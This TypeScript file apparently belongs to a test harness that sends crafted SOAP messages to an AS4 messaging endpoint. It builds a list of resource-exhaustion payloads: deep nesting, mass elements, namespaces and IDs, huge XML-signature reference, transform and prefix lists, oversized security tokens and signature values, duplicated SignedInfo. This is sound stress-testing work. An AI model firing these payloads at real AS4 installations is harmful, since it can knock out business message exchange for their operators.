import { type Attack, attack, type Blow } from './attack.ts';
import { type Installation, OURS } from './installation.ts';
import { found, replaced } from './replaced.ts';
import { as4Body, INVOICE, message, send } from './senders.ts';

const END = '</env:Envelope>';
const MIB = 1_048_576;
/** What a SOAP part may have at most, a little less. */
const MOST = 4 * MIB - 16_384;

/** Repeats text up to so many bytes. */
export const filling = (text: string, bytes: number): string => text.repeat(Math.floor(bytes / text.length));

const numbered = (count: number, write: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => write(i)).join('');

/** A message with another SOAP part than was signed: what anybody can make who knows a certificate of the network. */
async function altered(target: Installation, alter: (soap: string) => string): Promise<Blow> {
  const { contentType, body } = await as4Body(target, message(target, INVOICE));
  const start = body.indexOf('<?xml');
  const end = body.indexOf(END) + END.length;
  const soap = Buffer.from(alter(body.toString('utf8', start, end)));
  const whole = Buffer.concat([body.subarray(0, start), soap, body.subarray(end)]);
  return { bytes: whole.length, strike: () => send(target, target.as4Url, { contentType, body: whole }) };
}

const soapAttack = (name: string, alter: (soap: string) => string): Attack =>
  attack(`soap-${name}`, (target) => altered(target, alter));

const inHeader = (xml: string) => (soap: string) => replaced(soap, '</env:Header>', `${xml}</env:Header>`);
const inSecurity = (xml: string) => (soap: string) =>
  replaced(soap, '</wsse:Security>', `${xml}</wsse:Security>`);
const inSignedInfo = (xml: string) => (soap: string) =>
  replaced(soap, '</ds:SignedInfo>', `${xml}</ds:SignedInfo>`);
const inMessaging = (xml: string) => (soap: string) =>
  replaced(soap, '</eb:Messaging>', `${xml}</eb:Messaging>`);
/** In that of who signed and in that of who is to decrypt. */
const inTokens = (text: string) => (soap: string) => {
  const pieces = soap.split(/(?<=<wsse:BinarySecurityToken[^>]*>)/);
  if (pieces.length !== 3) throw new Error('There are no two tokens to attack with');
  return pieces.join(text);
};

const C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const CANONICALIZATION = `<ds:CanonicalizationMethod Algorithm="${C14N}">`;
const prefixList = (names: string): string =>
  `<ec:InclusiveNamespaces xmlns:ec="${C14N}" PrefixList="${names}"></ec:InclusiveNamespaces>`;
const inList = (names: string) => (soap: string) =>
  replaced(soap, CANONICALIZATION, `${CANONICALIZATION}${prefixList(names)}`);
const reference = (i: number): string =>
  `<ds:Reference URI="#as4-messaging"><ds:Transforms><ds:Transform Algorithm="${C14N}"></ds:Transform></ds:Transforms>` +
  `<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"></ds:DigestMethod><ds:DigestValue>${i}</ds:DigestValue></ds:Reference>`;
const declarations = (from: number): string => numbered(200, (i) => ` xmlns:p${from + i}="urn:${i}"`);

/** XML from anybody, before it is known whose it is. */
export const SOAP_ATTACKS: Attack[] = [
  soapAttack('deep', inHeader(filling('<a>', MOST))),
  soapAttack('elements', inHeader(filling('<a/>', MOST))),
  soapAttack('instructions', inHeader(filling('<?a b?>', MOST))),
  soapAttack('attributes', inHeader(filling(`<a${numbered(250, (i) => ` b${i}="c"`)}/>`, MOST))),
  soapAttack('namespaces', inHeader(numbered(900, (i) => `<a${declarations(i * 200)}/>`))),
  soapAttack(
    'nested-namespaces',
    inHeader(
      `${numbered(50, (i) => `<a${declarations(i * 200)}>`)}${filling('<b/>', MIB / 16)}${'</a>'.repeat(50)}`,
    ),
  ),
  soapAttack('references-to-characters', inHeader(`<a>${filling('&#65;', MOST)}</a>`)),
  soapAttack('carriage-returns', inHeader(`<a>${filling('\r', MOST)}</a>`)),
  soapAttack('cdata', inHeader(`<a>${filling('<![CDATA[x]]>', MOST)}</a>`)),
  soapAttack('cdata-unclosed', inHeader(filling('<![CDATA[', MOST))),
  soapAttack('names', inHeader(numbered(19_000, (i) => `<n${i}x${'y'.repeat(180)}/>`))),
  soapAttack('ids', inHeader(numbered(19_000, (i) => `<a Id="i${i}" xmlns="urn:a"/>`))),
  soapAttack('must-understand', inHeader(numbered(19_000, () => '<env:x env:mustUnderstand="0"/>'))),
  soapAttack('prefix-list', (soap) =>
    inSignedInfo(filling('<ds:x></ds:x>', 100_000))(inList(numbered(100_000, () => 'x '))(soap)),
  ),
  soapAttack('prefix-list-distinct', (soap) =>
    inSignedInfo(filling('<ds:x></ds:x>', 200_000))(inList(numbered(200_000, (i) => `p${i} `))(soap)),
  ),
  soapAttack('prefix-list-declared', (soap) =>
    replaced(
      inSignedInfo(filling('<ds:x></ds:x>', 200_000))(inList(numbered(240, (i) => `p${i} `))(soap)),
      '<env:Header>',
      `<env:Header${numbered(240, (i) => ` xmlns:p${i}="urn:${i}"`)}>`,
    ),
  ),
  soapAttack('references', inSignedInfo(numbered(3_900, reference))),
  soapAttack('transforms', (soap) =>
    replaced(
      soap,
      '</ds:Transforms>',
      `${filling(`<ds:Transform Algorithm="${C14N}"/>`, MIB)}</ds:Transforms>`,
    ),
  ),
  soapAttack('two-signed-infos', (soap) => {
    const signed = found(soap, /<ds:SignedInfo.*?<\/ds:SignedInfo>/s);
    return replaced(soap, signed, signed + signed);
  }),
  soapAttack('signed-info-text', inSignedInfo(`<ds:x>${filling('&#13;', MOST)}</ds:x>`)),
  soapAttack('tokens', (soap) => {
    const token = found(soap, /<wsse:BinarySecurityToken.*?<\/wsse:BinarySecurityToken>/s);
    return inSecurity(numbered(1_000, (i) => replaced(token, /wsu:Id="[^"]*"/, `wsu:Id="t${i}"`)))(soap);
  }),
  soapAttack('token-huge', inTokens(filling('A \n', 1.5 * MIB))),
  soapAttack('token-dashes', inTokens(filling('-----BEGIN CERTIFICATE-----', 1.5 * MIB))),
  soapAttack('signature-value', (soap) =>
    replaced(soap, '<ds:SignatureValue>', `<ds:SignatureValue>${filling(' A', MOST)}`),
  ),
  soapAttack('properties', inMessaging(filling('<eb:Property name="a">b</eb:Property>', MIB / 2))),
  soapAttack('user-messages', inMessaging(filling('<eb:UserMessage/>', MIB / 4))),
  soapAttack('property-many', (soap) =>
    replaced(
      soap,
      '<eb:MessageProperties>',
      `<eb:MessageProperties>${filling(`<eb:Property name="x">${OURS}</eb:Property>`, MIB / 2)}`,
    ),
  ),
  soapAttack('year-9999', (soap) =>
    replaced(soap, /<eb:Timestamp>[^<]*/, '<eb:Timestamp>9999-12-31T23:59:59Z'),
  ),
];
